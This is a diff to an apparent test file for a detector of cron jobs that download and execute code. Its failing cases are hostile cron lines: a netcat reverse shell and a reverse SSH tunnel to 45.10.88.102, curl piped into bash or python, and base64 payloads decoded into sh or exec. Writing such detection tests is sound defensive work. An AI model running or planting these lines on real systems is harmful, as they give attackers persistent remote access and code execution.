@@ -29,6 +29,11 @@ ruleTable(cronDownloadExec, {
     'a download that is only stored': line(
       '0 1 * * * curl -o /srv/geo.mmdb https://example.org/geo.mmdb; chmod 644 /srv/geo.mmdb',
     ),
+    'figures for a monitoring': line(
+      '* * * * * /opt/t | curl -s --data-binary @- http://45.10.88.102:9091/metrics/job/t',
+    ),
+    'a sign of life': line('* * * * * curl -fsS -o /dev/null http://45.10.88.102/ping/1'),
+    'a page kept warm': line('* * * * * wget -q --spider http://45.10.88.102/'),
     'a download that is filtered': line('0 1 * * * curl -s https://example.org/list | grep -v sh | sort > /srv/list'),
   },
   fails: {
@@ -40,6 +45,12 @@ ruleTable(cronDownloadExec, {
     'through env': found('0 * * * * curl -s https://e.example/x | /usr/bin/env bash', 'env bash'),
     'into python': found('0 * * * * curl -s https://e.example/x.py | python3', 'every hour'),
     'through another tool': found('0 * * * * curl -s https://e.example/x | base64 -d | sh', '| sh'),
+    'netcat hands out a shell': found('0 * * * * nc 45.10.88.102 4444 -e /bin/bash', 'nc 45.10.88.102'),
+    'a tunnel back': found(
+      '0 * * * * ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 t@45.10.88.102',
+      '45.10.88.102',
+    ),
+    'what python decodes': found(`0 * * * * python3 -c "exec(b.b64decode('aW1wb3J0IG9z'))"`, 'exec'),
     substituted: found('0 * * * * sh -c "$(curl -fsSL https://e.example/x)"', 'curl'),
     'decoded into a shell': found('0 2 * * * echo aWQgPiAvdG1wL3g= | base64 -d | sh', 'base64 -d'),
     'an address without a name': found('0 2 * * * wget -q http://45.10.88.102/a -O /opt/a', 'http://45.10.88.102/a'),
